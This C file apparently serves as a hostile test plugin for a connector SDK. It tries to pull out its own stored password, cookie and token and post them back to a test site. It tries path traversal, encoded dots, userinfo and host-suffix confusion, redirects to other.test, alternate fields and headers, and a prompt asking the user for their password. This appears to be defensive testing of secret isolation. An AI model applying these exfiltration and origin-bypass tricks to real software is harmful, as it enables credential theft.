/*
 * A konnector that wants its password, its session's cookie and its token. The
 * site tells it the ways, one a line: "form /login/raw". It goes each way, and
 * sends all that it was given back to the site, where the test looks through it.
 */
#include <stdio.h>
#include <string.h>

#include <clisk/clisk.h>

#define SITE "https://site.test"

enum { THIEF_LOOT_MAX = 36000, THIEF_LINE_MAX = 256 };

struct loot {
    char bytes[THIEF_LOOT_MAX];
    size_t len;
};

static void
loot_add(struct loot *loot, const void *data, size_t len)
{
    if (len > sizeof loot->bytes - loot->len)
        len = sizeof loot->bytes - loot->len;
    memcpy(loot->bytes + loot->len, data, len);
    loot->len += len;
}

static void
loot_add_text(struct loot *loot, const char *text)
{
    if (text) {
        loot_add(loot, text, strlen(text));
        loot_add(loot, "\n", 1);
    }
}

/* All that the SDK tells of a page. */
static void
loot_add_page(struct loot *loot, clisk_page *page)
{
    static const char *const headers[] = {"X-Echo",   "ETag",    "Link",
                                          "Location", "Refresh", "Content-Disposition",
                                          "Warning",  "Via",     "Content-Type"};
    size_t len = 0, count = 0;
    const void *body = clisk_body(page, &len);
    const struct clisk_redirect *redirects = clisk_redirects(page, &count);

    loot_add_text(loot, clisk_url(page));
    loot_add_text(loot, clisk_content_type(page));
    for (size_t i = 0; i < sizeof headers / sizeof headers[0]; i++)
        loot_add_text(loot, clisk_header_at(page, headers[i], 0));
    for (size_t i = 0; i < count; i++)
        loot_add_text(loot, redirects[i].url);
    loot_add(loot, body, len);
}

static clisk_page *
thief_form(clisk_run *run, const char *path, enum clisk_transform transform)
{
    clisk_form *form =
        clisk_form_find(clisk_get(run, clisk_format(run, SITE "%s?form", path)), "form");

    clisk_form_set_secret_as(form, "pass", "password", transform);
    return clisk_form_submit(form, NULL);
}

static clisk_page *
thief_send(clisk_run *run, const char *method, const char *path, struct clisk_credential credential)
{
    static const char body[] = "{\"pass\": null}";
    const struct clisk_credential credentials[] = {credential, {0}};
    int has_body = credential.pointer != NULL;

    return clisk_send(run, &(struct clisk_request){
                               .method = method,
                               .url = clisk_format(run, SITE "%s", path),
                               .body = has_body ? body : NULL,
                               .len = has_body ? sizeof body - 1 : 0,
                               .content_type = "application/json",
                               .credentials = credentials,
                               .any_status = true,
                           });
}

static clisk_page *
thief_basic(clisk_run *run, const char *method, const char *path)
{
    return thief_send(run, method, path,
                      (struct clisk_credential){
                          .secret = "password", .scheme = CLISK_SCHEME_BASIC, .user = "me"});
}

static clisk_page *
thief_ahead(clisk_run *run, const char *path)
{
    const char *urls[] = {clisk_format(run, SITE "%s", path)};

    return clisk_batch_next(clisk_get_all(run, urls, 1));
}

/* A page that is on its way already when the token becomes known. */
static clisk_page *
thief_early(clisk_run *run, const char *path)
{
    const char *urls[] = {clisk_format(run, SITE "%s", path)};
    clisk_batch *pages = clisk_get_all(run, urls, 1);

    clisk_get(run, SITE "/wait");
    clisk_send(run, &(struct clisk_request){.url = SITE "/api/token", .capture = "access"});
    return clisk_batch_next(pages);
}

static clisk_page *
thief_go(clisk_run *run, struct loot *loot, const char *kind, const char *path)
{
    if (strcmp(kind, "form") == 0)
        return thief_form(run, path, CLISK_TRANSFORM_RAW);
    if (strcmp(kind, "form-base64") == 0)
        return thief_form(run, path, CLISK_TRANSFORM_BASE64);
    if (strcmp(kind, "form-sha1") == 0)
        return thief_form(run, path, CLISK_TRANSFORM_SHA1_HEX);
    if (strcmp(kind, "form-sha256") == 0)
        return thief_form(run, path, CLISK_TRANSFORM_SHA256_HEX);
    if (strcmp(kind, "json") == 0)
        return thief_send(run, "POST", path,
                          (struct clisk_credential){.secret = "password", .pointer = "/pass"});
    if (strncmp(kind, "basic-", 6) == 0)
        return thief_basic(run, kind + 6, path);
    if (strcmp(kind, "ahead") == 0)
        return thief_ahead(run, path);
    if (strcmp(kind, "early") == 0)
        return thief_early(run, path);
    if (strcmp(kind, "token") == 0)
        return thief_send(
            run, "GET", path,
            (struct clisk_credential){.token = "access", .scheme = CLISK_SCHEME_BEARER});
    if (strcmp(kind, "cookie") == 0) {
        thief_form(run, path, CLISK_TRANSFORM_RAW);
        loot_add_text(loot, clisk_cookie(run, SITE "/", "csrf"));
    }
    return clisk_get_maybe(run, clisk_format(run, SITE "%s", path));
}

static void
thief_way(clisk_run *run, const char *kind, const char *path)
{
    static struct loot loot;

    loot.len = 0;
    loot_add_page(&loot, thief_go(run, &loot, kind, path));
    clisk_post_data(run, clisk_format(run, SITE "/loot%s", path), "application/octet-stream",
                    loot.bytes, loot.len);
}

/* Ways that end a run: one a run. */
static void
thief_other_field(clisk_run *run)
{
    clisk_form *form = clisk_form_find(clisk_get(run, SITE "/login/form?form"), "form");

    clisk_form_add(form, "comment", "");
    clisk_form_set_secret(form, "comment", "password");
    clisk_form_submit(form, NULL);
}

static void
thief_get_form(clisk_run *run)
{
    clisk_form *form = clisk_form_find(clisk_get(run, SITE "/login/by-get?form"), "form");

    clisk_form_set_secret(form, "pass", "password");
    clisk_form_submit(form, NULL);
}

static void
thief_other_pointer(clisk_run *run)
{
    thief_send(run, "POST", "/api/x",
               (struct clisk_credential){.secret = "password", .pointer = "/pas"});
}

static void
thief_other_header(clisk_run *run)
{
    thief_send(run, "GET", "/basic/x",
               (struct clisk_credential){.secret = "password", .header = "X-Password"});
}

static void
thief_at(clisk_run *run, const char *url)
{
    static const char body[] = "{\"pass\": null}";

    clisk_send(run, &(struct clisk_request){
                        .method = "POST",
                        .url = url,
                        .body = body,
                        .len = sizeof body - 1,
                        .content_type = "application/json",
                        .credentials =
                            (const struct clisk_credential[]){
                                {.secret = "password", .pointer = "/pass"}, {0}},
                    });
}

static const struct {
    const char *mode, *url;
} thief_urls[] = {
    {"other-origin", "https://other.test/api/x"},
    {"plain-http", "http://site.test/api/x"},
    {"other-port", "https://site.test:8443/api/x"},
    {"by-address", "https://127.0.0.1/api/x"},
    {"path-dots", SITE "/api/../loot"},
    {"path-dots-coded", SITE "/api/%2e%2e/loot"},
    {"path-dots-mixed", SITE "/api/.%2E/loot"},
    {"path-backslash", SITE "/api\\..\\loot"},
    {"path-slashes", SITE "//api/x"},
    {"path-case", SITE "/API/x"},
    {"path-prefix", SITE "/apiary"},
    {"user-info", "https://site.test@other.test/api/x"},
    {"host-dot", "https://site.test./api/x"},
    {"host-suffix", "https://site.test.other.test/api/x"},
    {"redirect-origin", SITE "/api/to-other-origin"},
    {"redirect-path", SITE "/api/to-other-path"},
    {"redirect-http", SITE "/api/to-http"},
    {"redirect-port", SITE "/api/to-other-port"},
    {"url-form", SITE "/api/url-form"},
    {"url-lower", SITE "/api/url-lower"},
    {"url-path", SITE "/api/url-path"},
    {"url-base64", SITE "/api/url-base64"},
    {"url-hex", SITE "/api/url-hex"},
    {"url-fragment", SITE "/api/url-fragment"},
    {"url-host", SITE "/api/url-host"},
    {"url-user", SITE "/api/url-user"},
};

static void
thief_ask(clisk_run *run)
{
    clisk_ask_text(run, &(struct clisk_question){.text = "Your password, please"});
}

static const struct {
    const char *mode;
    void (*deed)(clisk_run *run);
} thief_deeds[] = {
    {"other-field", thief_other_field},
    {"get-form", thief_get_form},
    {"other-pointer", thief_other_pointer},
    {"other-header", thief_other_header},
    {"ask", thief_ask},
};

static void
thief_steal(clisk_run *run)
{
    char list[8192], kind[32], path[THIEF_LINE_MAX];
    size_t len;
    const void *body = clisk_body(clisk_get(run, SITE "/ways"), &len);
    int used;

    if (len >= sizeof list)
        len = sizeof list - 1;
    memcpy(list, body, len);
    list[len] = '\0';
    for (const char *at = list; sscanf(at, "%31s %255s%n", kind, path, &used) == 2; at += used)
        thief_way(run, kind, path);
}

static void
thief_ensure_authenticated(clisk_run *run)
{
    clisk_get(run, SITE "/home");
}

static const char *
thief_identify(clisk_run *run)
{
    return clisk_field(run, "mode");
}

static void
thief_fetch(clisk_run *run)
{
    const char *mode = clisk_field(run, "mode");

    if (strcmp(mode, "all") == 0)
        thief_steal(run);
    for (size_t i = 0; i < sizeof thief_urls / sizeof thief_urls[0]; i++) {
        if (strcmp(thief_urls[i].mode, mode) == 0)
            thief_at(run, thief_urls[i].url);
    }
    for (size_t i = 0; i < sizeof thief_deeds / sizeof thief_deeds[0]; i++) {
        if (strcmp(thief_deeds[i].mode, mode) == 0)
            thief_deeds[i].deed(run);
    }
}

CLISK_PLUGIN(.ensure_authenticated = thief_ensure_authenticated,
             .ensure_not_authenticated = thief_ensure_authenticated, .identify = thief_identify,
             .fetch = thief_fetch, );
